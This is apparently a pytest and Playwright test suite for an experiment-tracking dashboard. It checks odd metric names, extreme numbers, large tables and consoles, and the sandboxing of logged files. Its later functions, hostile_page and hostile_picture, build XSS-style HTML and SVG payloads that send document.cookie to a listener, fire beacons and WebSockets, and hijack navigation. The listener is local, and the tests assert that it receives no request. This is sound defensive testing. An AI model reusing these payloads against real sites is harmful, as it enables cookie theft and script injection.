"""What was logged may be anything: numbers at the ends of their range, names of any letters, pages that reach out."""

from __future__ import annotations

import contextlib
import socket
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from tests.page.conftest import Look, Served, serving
from tests.page.stores import train

import runlake

PROJECT = "#/ada/vision"
KEYS = (
    "a/b",
    'said "so"',
    "it's",
    "rocket \N{ROCKET}",
    "k" * 300,
    "dots.in.it",
    "100%",
    "a?b#c&d=e",
    "<b>bold</b>",
    "back\\slash",
)
NAN, INFINITY = float("nan"), float("inf")
MINUS = "\N{MINUS SIGN}"
TABLE_ROWS = 50_000
CONSOLE_LINES = 100_000


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("odd-values") / "store"


@pytest.fixture(scope="module")
def served(store: Path) -> Iterator[Served]:
    train(store, "usual", [{"loss": 1.0}])
    with serving(store) as served:
        yield served


@pytest.fixture
def look(looking: Callable[..., Look], served: Served) -> Look:
    return looking(served)


def as_table(look: Look, key: str) -> list[str]:
    """What the table twin of a panel says of its only line: last, lowest, highest, rows, and what is not finite."""
    panel = look.page.get_by_role("article", name=key, exact=True)
    panel.locator("canvas.chart-top[aria-label*=' line']").wait_for()
    panel.locator("canvas.chart-top").press("t")
    row = panel.locator(".table-twin tbody tr")
    row.wait_for()
    return [cell.strip() for cell in row.locator("td").all_inner_texts()]


@pytest.fixture(scope="module")
def named(store: Path, served: Served) -> str:
    """A run of its project with each of the keys, a number after the other."""
    return train(store, "names", [{key: number for number, key in enumerate(KEYS)}] * 2)


def test_keys_of_any_letters_have_a_panel_with_their_line(look: Look, named: str) -> None:
    for number, key in enumerate(KEYS):
        look.go(f"{PROJECT}/runs/{named}")
        look.page.get_by_role("searchbox", name="Search panels").fill(key[:40])
        assert as_table(look, key) == [str(number), str(number), str(number), "2", ""], key


def test_keys_of_any_letters_have_a_column_that_the_address_keeps(look: Look, named: str) -> None:
    look.go(f"{PROJECT}?q=names&t=table&c=state")
    look.waits_for("1 run matches")
    look.page.get_by_role("button", name="Columns").click()
    for key in KEYS:
        look.page.get_by_label("Search columns").fill(key[:40])
        look.page.locator(".picker-add", has_text=key).first.click()
    look.page.wait_for_function(
        "count => decodeURIComponent(location.hash).split('summary.').length > count", arg=len(KEYS)
    )
    address = look.page.url
    look.page.goto("about:blank")
    look.page.goto(address)
    line = look.page.locator(".table-body .line")
    line.get_by_text(str(len(KEYS) - 1), exact=True).wait_for()
    heads = look.page.get_by_role("columnheader").locator(".head-button").all_inner_texts()
    assert [head.strip().removeprefix("s.").strip() for head in heads] == ["Name", "State", *KEYS]
    assert line.get_by_role("gridcell").all_inner_texts()[-len(KEYS) :] == [str(number) for number in range(len(KEYS))]


def test_numbers_at_the_ends_of_their_range_are_drawn_and_read_exactly(look: Look, store: Path) -> None:
    rows = [{"high": 1e308, "low": 5e-324, "both": 1e308}, {"high": -1e308, "low": 1e-323, "both": 5e-324}]
    run_id = train(store, "ends", rows)
    look.go(f"{PROJECT}/runs/{run_id}")
    assert as_table(look, "high") == [f"{MINUS}1e308", f"{MINUS}1e308", "1e308", "2", ""]
    assert as_table(look, "low") == [f"1e{MINUS}323", f"5e{MINUS}324", f"1e{MINUS}323", "2", ""]
    assert as_table(look, "both") == [f"5e{MINUS}324", f"5e{MINUS}324", "1e308", "2", ""]


def test_one_point_only_and_nothing_but_nan_are_said_and_counted(look: Look, store: Path) -> None:
    run_id = train(store, "few", [{"one": 3.0, "nan": NAN, "inf": INFINITY}, {"nan": NAN, "inf": -INFINITY}])
    look.go(f"{PROJECT}/runs/{run_id}")
    look.page.get_by_role("article", name="nan", exact=True).get_by_text("2 NaN").wait_for()
    look.page.get_by_role("article", name="inf", exact=True).get_by_text("1 +\N{INFINITY}").wait_for()
    assert as_table(look, "one") == ["3", "3", "3", "1", ""]
    assert as_table(look, "nan") == ["", "", "", "2", "2 NaN"]


def test_what_a_log_axis_cannot_show_is_counted_below_the_chart(look: Look, store: Path) -> None:
    run_id = train(store, "log", [{"loss": value} for value in (-1.0, 0.0, 1.0, 10.0)])
    look.go(f"{PROJECT}/runs/{run_id}")
    panel = look.page.get_by_role("article", name="loss", exact=True)
    look.page.get_by_role("button", name="Settings of all panels").click()
    look.page.get_by_label("y scale").select_option("log")
    panel.get_by_text("\N{LESS-THAN OR EQUAL TO} 0 in 1 line").wait_for()


def test_a_table_of_50_000_rows_is_paged_and_sorted(look: Look, store: Path) -> None:
    data = [[row, f"text {row}", row / 7] for row in range(TABLE_ROWS)]
    run_id = train(store, "table", [{"big": runlake.Table(columns=["row", "text", "share"], data=data)}])
    look.go(f"{PROJECT}/runs/{run_id}?tab=media")
    look.waits_for("1 to 25 of 50,000")
    look.page.get_by_role("button", name="row", exact=True).click()
    look.page.get_by_role("button", name="row", exact=True).click()
    look.page.get_by_role("cell", name="49999", exact=True).or_(
        look.page.get_by_role("cell", name="49,999", exact=True)
    ).wait_for()
    assert look.page.locator("table tbody tr").count() == 25


def test_the_last_line_of_a_console_of_10_mb_is_there_at_once_and_any_line_is_found(look: Look, store: Path) -> None:
    quiet = {"silent": True, "seal": "off"}
    with runlake.init(store=store, entity="ada", project="vision", name="console", settings=quiet) as run:
        text = "\n".join(f"line {n} " + "x" * 90 for n in range(CONSOLE_LINES))
        print(text)
        print("the very end")
    look.go(f"{PROJECT}/runs/{run.id}?tab=console")
    look.waits_for(f"{CONSOLE_LINES + 1:,} lines")
    look.page.get_by_role("log").press("End")
    look.waits_for("the very end")
    assert look.page.locator(".console-line").count() < 500
    look.page.get_by_label("Find in the console").fill("line 77777 ")
    look.waits_for("1 line found")
    look.waits_for("77,778" if look.page.get_by_text("77,778").count() else "77778")


def test_lines_that_are_wrapped_stand_one_below_the_other_to_their_ends(look: Look, store: Path) -> None:
    quiet = {"silent": True, "seal": "off"}
    with runlake.init(store=store, entity="ada", project="vision", name="console", settings=quiet) as run:
        for number in range(200):
            print(f"begin {number} {'word ' * (number % 7) * 40}\t\N{ROCKET} end")
    look.go(f"{PROJECT}/runs/{run.id}?tab=console")
    look.waits_for("200 lines")
    look.page.get_by_label("Wrap").check()
    lines = look.page.locator(".console-lines").element_handle()
    look.page.wait_for_function("lines => lines.scrollWidth <= lines.clientWidth", arg=lines)
    look.page.get_by_role("log").press("End")
    look.waits_for("begin 199")
    box, rows = ".console-space", ".console-rows"
    place = (
        "([outer, inner]) => [outer, inner].map(name => document.querySelector(name).getBoundingClientRect().bottom)"
    )
    bottoms = look.page.evaluate(place, [box, rows])
    assert abs(bottoms[0] - bottoms[1]) <= 1


class Listener:
    """A port of this machine that notes each request: none may come.

    Chromium connects for a navigation before it looks whether it may be; what it refuses sends nothing: no request.
    """

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
        self.came: list[bytes] = []
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                guest, _ = self._socket.accept()
            except OSError:
                return
            with guest, contextlib.suppress(OSError):
                guest.settimeout(1)
                if request := guest.recv(200):
                    self.came.append(request)

    def close(self) -> None:
        self._socket.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    listener = Listener()
    yield listener
    listener.close()


def hostile_page(url: str) -> str:
    return f"""<!doctype html><base href="{url}/base/"><link rel=stylesheet href="{url}/style.css">
<meta http-equiv=refresh content="2; url={url}/refresh"><img src="{url}/img"><img src=relative>
<iframe src="{url}/frame"></iframe><video src="{url}/film"></video><form action="{url}/form"><input></form>
<style>@import "{url}/import"; body {{background: url({url}/ground)}}</style>
<script src="{url}/script.js"></script><h1 id=said>here</h1>
<script>
document.getElementById("said").textContent = "ran";
fetch("{url}/fetch").catch(() => {{}});
fetch("/api/v1/projects").catch(() => {{}});
try {{ new WebSocket("{url.replace("http", "ws")}/socket") }} catch (e) {{}}
try {{ new EventSource("{url}/events") }} catch (e) {{}}
try {{ navigator.sendBeacon("{url}/beacon", "x") }} catch (e) {{}}
try {{ new Image().src = "{url}/image?" + document.cookie }} catch (e) {{}}
try {{ parent.document.title = "taken" }} catch (e) {{}}
try {{ top.location = "{url}/top" }} catch (e) {{}}
try {{ open("{url}/window") }} catch (e) {{}}
try {{ document.forms[0].submit() }} catch (e) {{}}
</script>"""


def test_html_that_was_logged_runs_in_its_frame_and_reaches_nobody(look: Look, store: Path, listener: Listener) -> None:
    run_id = train(store, "html", [{"page": runlake.Html(hostile_page(listener.url), inject=False)}])
    look.expects(" ")  # the browser says of each attempt that it was refused
    look.go(f"{PROJECT}/runs/{run_id}?tab=media")
    look.page.frame_locator("iframe").get_by_role("heading", name="ran").wait_for()
    look.page.wait_for_timeout(3_000)
    assert listener.came == []
    assert "taken" not in look.page.title()
    assert look.page.url.startswith(look.address)


def hostile_picture(url: str) -> str:
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" '
        f'onload="fetch(\'{url}/onload\')"><script>fetch("{url}/script"); window.ran = true</script>'
        f'<image xlink:href="{url}/image" width="9" height="9"/><style>@import "{url}/style";</style>'
        f'<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="{url}/foreign"/></foreignObject>'
        "</svg>"
    )


@pytest.mark.parametrize("name", ["picture.svg", "notes.md", "page.html", "data.json", "table.csv"])
def test_files_that_would_run_are_shown_as_what_they_are(
    look: Look, store: Path, listener: Listener, name: str
) -> None:
    run_id = train(store, name, [{"loss": 1.0}])
    url = listener.url
    texts = {
        "picture.svg": hostile_picture(url),
        "notes.md": f'# Notes\n![x]({url}/md)\n<img src="{url}/html" onerror="window.ran = true">',
        "page.html": hostile_page(url),
        "data.json": f'{{"html": "<img src={url}/json onerror=alert(1)>"}}',
        "table.csv": f'a,b\n<img src={url}/csv>,"<script>window.ran = true</script>"\n',
    }
    folder = store / "ada/vision/runs" / run_id / "files"
    (folder / name).write_text(texts[name])
    look.go(f"{PROJECT}/runs/{run_id}?tab=files&file={name}")
    look.page.get_by_role("region", name=f"Preview of {name}").wait_for()
    look.page.locator(".preview .waiting").wait_for(state="detached")
    look.page.wait_for_timeout(500)
    assert listener.came == []
    assert look.page.evaluate("window.ran") is None
    assert look.page.locator(".preview script, .preview iframe").count() == 0


def test_a_file_that_is_opened_by_itself_runs_nothing_and_reaches_nobody(
    look: Look, store: Path, listener: Listener
) -> None:
    playwright = pytest.importorskip("playwright.sync_api")
    run_id = train(store, "opened", [{"loss": 1.0}])
    folder = store / "ada/vision/runs" / run_id / "files"
    for name, text in {"a.svg": hostile_picture(listener.url), "a.html": hostile_page(listener.url)}.items():
        (folder / name).write_text(text)
        tab: Any = look.page.context.new_page()
        address = f"{look.address}api/v1/runs/ada/vision/{run_id}/files/{name}"
        with contextlib.suppress(playwright.Error):  # it is downloaded, which is not an answer to goto
            tab.goto(address)
        tab.wait_for_timeout(500)
        assert tab.url in ("about:blank", address)
        tab.close()
    assert listener.came == []
